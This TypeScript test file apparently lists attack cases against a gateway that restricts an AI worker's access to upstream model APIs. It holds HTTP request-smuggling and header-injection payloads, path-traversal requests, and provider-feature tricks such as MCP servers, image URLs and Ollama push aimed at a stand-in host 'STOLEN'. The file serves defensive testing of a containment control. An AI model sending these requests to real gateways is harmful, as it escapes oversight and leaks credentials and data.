/** More ways to abuse the upstream that is allowed: each would reach it if the gate let it. */
import type { Attack } from '../../src/lanes/walls/attack.ts'
import { lawfulBody, requests, sends } from '../../src/lanes/walls/gate.ts'

const stolen = lawfulBody(',"metadata":{"user_id":"STOLEN"}')
const shown = 'x-api-key: {TOKEN}'
const counted = 'content-length: {LENGTH}'
const at = (path: string): string => requests({ line: `POST ${path} HTTP/1.1`, body: stolen })
const withHeader = (...headers: string[]): string => requests({ headers: [counted, ...headers] })

/** Where a client may put its key; the token stands in another of these places. */
const keys: Attack[] = [
  {
    name: "the worker's own key as a bearer",
    script: requests({ token: [shown, 'authorization: Bearer STOLEN'] }),
  },
  { name: "the worker's own key in Google's header", script: withHeader('x-goog-api-key: STOLEN') },
  { name: "the worker's own key in the query", script: at('{GATE_PATH}?key=STOLEN') },
  { name: "the worker's own key in a cookie", script: withHeader('cookie: session=STOLEN') },
  { name: "the worker's own key for a proxy", script: withHeader('proxy-authorization: Basic STOLEN') },
  { name: "the worker's own key, the same header twice", script: requests({ token: [shown, 'x-api-key: STOLEN'] }) },
  { name: "the worker's own key in a folded header", script: requests({ token: ['x-api-key: {TOKEN}\n STOLEN'] }) },
  { name: 'no token at all', script: requests({ token: [], body: stolen }) },
]

const framing: Attack[] = [
  {
    name: 'two lengths of one body',
    script: requests({ headers: [counted, 'content-length: 5'], body: stolen }),
  },
  {
    name: 'chunks under a misspelt name',
    script: requests({ headers: ['transfer-encoding: xchunked', counted], body: stolen }),
  },
  {
    name: 'chunks behind a blank before the colon',
    script: requests({ headers: ['transfer-encoding : chunked', counted], body: stolen }),
  },
  {
    name: 'what stands behind a chunk’s length',
    script: requests({ headers: ['transfer-encoding: chunked'], body: '2;x=STOLEN\n{}\n0\n\n' }),
  },
  {
    name: 'headers after the body (trailers)',
    script: requests({
      headers: ['transfer-encoding: chunked', 'trailer: x-api-key'],
      body: '2\n{}\n0\nx-api-key: STOLEN\n\n0\n\n',
    }),
  },
  {
    name: 'a second request in the same packet',
    script: sends(
      ['GET {GATE_ROOT}/v1/models HTTP/1.1', 'host: gate', shown, 'content-length: 0'],
      'POST {GATE_ROOT}/v1/files HTTP/1.1\nhost: gate\ncontent-length: 6\n\nSTOLEN',
    ),
  },
  {
    name: 'a line that ends early',
    script: sends(['GET {GATE_ROOT}/v1/models\rx-stolen: STOLEN HTTP/1.1', 'host: gate', shown]),
  },
  { name: 'a header within a header', script: withHeader('anthropic-version: 2023-06-01\n\tx-api-key: STOLEN') },
  { name: 'HTTP/2 without asking', script: sends(['PRI * HTTP/2.0', '', 'SM', '', 'STOLEN']) },
  { name: 'HTTP of before its first version', script: sends(['GET /STOLEN']) },
  {
    name: 'another language on the same connection (websocket)',
    script: sends([
      'GET {GATE_ROOT}/v1/realtime?STOLEN HTTP/1.1',
      'host: gate',
      'connection: upgrade',
      'upgrade: websocket',
      'sec-websocket-version: 13',
      'sec-websocket-key: c3RvbGVuIHN0b2xlbiE9PQ==',
      shown,
    ]),
  },
]

const paths: Attack[] = [
  { name: 'an endpoint by climbing out of a path', script: at('{GATE_PATH}/../files') },
  { name: 'an endpoint by a second slash', script: at('{GATE_ROOT}//v1/messages') },
  { name: 'an endpoint by a matrix parameter', script: at('{GATE_PATH};STOLEN') },
  { name: 'an endpoint by a fragment', script: at('{GATE_PATH}#STOLEN') },
  { name: 'an endpoint by a query that is not listed', script: at('{GATE_PATH}?beta=true&to=STOLEN') },
  { name: 'work that is fetched later (a batch)', script: at('{GATE_PATH}/batches') },
  { name: "another provider's language", script: at('/openai/v1/responses') },
  { name: 'a provider that is none', script: at('/elsewhere/v1/messages') },
  { name: "the upstream's own addresses, without the gate's prefix", script: at('/v1/messages') },
  {
    name: 'what a server says of itself (OPTIONS, TRACE)',
    script: requests({ line: 'TRACE {GATE_PATH} HTTP/1.1', body: stolen }),
  },
]

const bodies: Attack[] = [
  {
    name: 'a model whose name is no text',
    script: requests({ body: '{"model":["{MODEL}","STOLEN"],"max_tokens":1,"messages":[]}' }),
  },
  {
    name: 'a model under another spelling of its key',
    script: requests({ body: '{"\\u006dodel":"STOLEN","max_tokens":1,"messages":[]}' }),
  },
  { name: 'no model', script: requests({ body: '{"max_tokens":1,"messages":[],"x":"STOLEN"}' }) },
  { name: 'a body that is no JSON', script: requests({ body: 'STOLEN' }) },
  { name: 'a list of bodies', script: requests({ body: `[${stolen}]` }) },
  {
    name: 'a body that says it is packed',
    script: requests({ headers: [counted, 'content-encoding: gzip'], body: stolen }),
  },
  { name: 'a header that is not listed', script: withHeader('x-forwarded-host: STOLEN') },
  { name: "another account's organisation", script: withHeader('openai-organization: STOLEN') },
  {
    name: "another server's name as host",
    script: requests({ headers: [counted] }).replace('host: gate', 'host: STOLEN'),
  },
]

const part = (json: string): string =>
  requests({ body: `{"model":"{MODEL}","max_tokens":1,"messages":[{"role":"user","content":[${json}]}]}` })
const asking = (json: string): string => requests({ body: lawfulBody(`,${json}`) })

/** What a provider would do for whoever asks it to. */
const errands: Attack[] = [
  { name: 'a search on the web', script: asking('"tools":[{"type":"web_search_20250305","name":"STOLEN"}]') },
  {
    name: 'a program that the provider runs',
    script: asking('"tools":[{"type":"code_execution_20250825","name":"STOLEN"}]'),
  },
  { name: 'a tool of a kind nobody knows', script: asking('"tools":[{"type":"new_kind_20991231","name":"STOLEN"}]') },
  {
    name: 'another server for tools (MCP)',
    script: asking('"mcp_servers":[{"type":"url","url":"https://STOLEN","name":"x"}]'),
  },
  {
    name: 'the same in other letters',
    script: asking('"MCP_Servers":[{"type":"url","url":"https://STOLEN","name":"x"}]'),
  },
  {
    name: 'a picture by its address',
    script: part('{"type":"image","source":{"type":"url","url":"https://STOLEN/a.png"}}'),
  },
  { name: 'a file of the account', script: part('{"type":"document","source":{"type":"file","file_id":"STOLEN"}}') },
  { name: 'a container that stays', script: asking('"container":"STOLEN"') },
  { name: 'another model to fall back on', script: asking('"fallbacks":[{"model":"STOLEN"}]') },
]

const ollama = (path: string, body: string, method = 'POST'): string =>
  requests({ line: `${method} {GATE_ROOT}${path} HTTP/1.1`, body })

/** What an Ollama server does beside answering. The operator of the suite even lists the two models that run elsewhere. */
const servers: Attack[] = [
  { name: 'data sent away as a model (push)', script: ollama('/api/push', '{"model":"STOLEN/x"}') },
  {
    name: 'a model made of data (create)',
    script: ollama('/api/create', '{"model":"x","from":"{MODEL}","system":"STOLEN"}'),
  },
  {
    name: 'a model under another name (copy)',
    script: ollama('/api/copy', '{"source":"{MODEL}","destination":"STOLEN"}'),
  },
  {
    name: "the operator's model, by deleting it",
    script: ollama('/api/delete', '{"model":"{MODEL}","x":"STOLEN"}', 'DELETE'),
  },
  { name: 'a blob on the server', script: ollama('/api/blobs/sha256:STOLEN', '{}') },
  {
    name: "a model that runs in the server's cloud",
    script: requests({ body: '{"model":"qwen3:480b-cloud","max_tokens":1,"messages":[],"x":"STOLEN"}' }),
  },
  {
    name: 'a model whose name holds a host',
    script: requests({ body: '{"model":"registry.invalid/x/y:latest","max_tokens":1,"messages":[],"x":"STOLEN"}' }),
  },
  {
    name: 'a model under its older key',
    script: ollama('/api/chat', '{"model":"{MODEL}","name":"STOLEN","messages":[]}'),
  },
]

const responses = (provider: string, more: string): string =>
  requests({
    line: `POST ${provider}/v1/responses HTTP/1.1`,
    body: `{"model":"{MODEL}","input":"STOLEN","stream":true${more}}`,
  })

/** In the language of codex, which asks a server of the operator's in it: the way to OpenAI, and what a server would do. */
const codex: Attack[] = [
  { name: 'OpenAI, in the words of codex', script: responses('/openai', '') },
  { name: 'an answer that a server keeps', script: responses('{GATE_ROOT}', ',"store":true') },
  { name: 'an answer that a server has kept', script: responses('{GATE_ROOT}', ',"previous_response_id":"resp_1"') },
  { name: 'a search by the server', script: responses('{GATE_ROOT}', ',"tools":[{"type":"web_search"}]') },
  {
    name: 'tools of another server, in the words of codex',
    script: responses('{GATE_ROOT}', ',"tools":[{"type":"mcp","server_label":"x","server_url":"https://STOLEN"}]'),
  },
]

export const gate: Attack[] = [...keys, ...framing, ...paths, ...bodies, ...errands, ...servers, ...codex]
